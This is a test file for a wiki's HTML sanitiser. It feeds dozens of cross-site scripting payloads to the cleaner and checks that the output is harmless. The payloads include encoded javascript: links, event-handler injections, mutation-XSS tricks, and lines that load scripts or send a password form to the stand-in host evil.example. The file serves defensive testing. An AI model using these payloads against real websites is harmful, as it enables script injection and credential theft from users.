"""The cleaner against what attackers write, whoever's HTML it is."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ssrwiki.foundation.markup import sanitise, tags

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    '<img src="https://evil.example/spy.png">',
    '<img src="//evil.example/spy.png">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
    '<a href="java&#8238;script:alert(1)">x</a>',
    '<a href="java\u202escript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\t/evil.example">x</a>',
    '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    '<a href="http://x" target="_blank" rel="opener">x</a>',
    '<a href="/ok" ping="https://evil.example">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'https://evil.example'</style>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="x"></object><embed src="x">',
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    '<p id="body">x</p><p id="forms">x</p><p id="cookie">x</p>',
    '<a id="h-ok" name="getElementById" href="/x">x</a>',
    '<p class="visually-hidden button primary">x</p>',
    '<a class="wikilink" data-slug="x" data-title="&quot;&gt;&lt;script&gt;">x</a>',
    "<x onclick=alert(1)>x</x>",
    "\u202e<b>x</b>\u202d",
    "<p>\x00<script>\x00alert(1)</script>",
    "<<p>><<a href='javascript:1'>>",
    "<a href='http://x'><a href='http://y'>z",
    "<table><script>alert(1)</script><p>x</table>",
]

FORBIDDEN_TAGS = {"script", "style", "iframe", "svg", "math", "form", "input", "button", "object"}
FORBIDDEN_TAGS |= {"embed", "base", "link", "meta", "body", "video", "details", "template"}
ALLOWED_ATTRIBUTES = {"class", "id", "href", "title", "data-slug", "data-title", "src", "alt"}
ALLOWED_ATTRIBUTES |= {"start", "rel"}


def assert_harmless(html: str) -> None:
    rest = []
    for piece in tags.pieces(html):
        if not piece.name:
            rest.append(piece.source)
            continue
        assert piece.name not in FORBIDDEN_TAGS
        names = {part.split("=")[0] for part in piece.attributes.split('" ')}
        assert {name.strip() for name in names if name.strip()} <= ALLOWED_ATTRIBUTES
        address = (piece.attribute("href") + piece.attribute("src")).lower()
        assert ":" not in address.split("/")[0] or address.startswith(
            ("http:", "https:", "mailto:")
        )
        assert not address.replace("\\", "/").startswith("//")
        assert piece.attribute("id") == "" or piece.attribute("id").startswith("h-")
    assert "<" not in "".join(rest)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_harmless_and_stays_so(attack: str) -> None:
    cleaned = sanitise.clean(attack)
    assert_harmless(cleaned)
    assert sanitise.clean(cleaned) == cleaned


@given(st.lists(st.sampled_from(ATTACKS), max_size=5).map("".join))
def test_attacks_in_a_row_are_no_better(attack: str) -> None:
    cleaned = sanitise.clean(attack)
    assert_harmless(cleaned)
    assert sanitise.clean(cleaned) == cleaned


@given(st.text(alphabet="<>\"'=/abp :;&#x!-\\\x00\u202e\n", max_size=60))
def test_noise_made_of_the_signs_of_html_comes_out_harmless(noise: str) -> None:
    cleaned = sanitise.clean(noise)
    assert_harmless(cleaned)
    assert sanitise.clean(cleaned) == cleaned


def test_ids_that_would_hide_a_property_of_the_page_are_dropped() -> None:
    assert sanitise.clean('<p id="body">x</p>') == "<p>x</p>"
    assert sanitise.clean('<p id="h-body">x</p>') == '<p id="h-body">x</p>'
    assert sanitise.clean('<p id="h-body">x</p>', id_prefix="mine-") == "<p>x</p>"


def test_only_classes_of_ours_are_kept() -> None:
    assert sanitise.clean('<td class="align-right big">1</td>') == "1"
    assert sanitise.clean('<p class="callout-title big">x</p>') == '<p class="callout-title">x</p>'


def test_a_link_that_leaves_says_so_even_if_it_claims_otherwise() -> None:
    assert (
        sanitise.clean('<a href="HTTPS://example.org" rel="follow">x</a>')
        == '<a href="HTTPS://example.org" rel="noopener nofollow ugc">x</a>'
    )
    assert sanitise.clean('<a href="/x" rel="follow">x</a>') == '<a href="/x">x</a>'


def test_a_bare_address_within_a_link_is_left_alone() -> None:
    html = '<p><a href="/x">https://example.org</a></p>'
    assert sanitise.link_bare_addresses(html) == html


def test_a_bare_address_with_entities_keeps_its_query() -> None:
    linked = sanitise.link_bare_addresses("<p>https://example.org/?a=1&amp;b=2</p>")
    assert 'href="https://example.org/?a=1&amp;b=2"' in linked
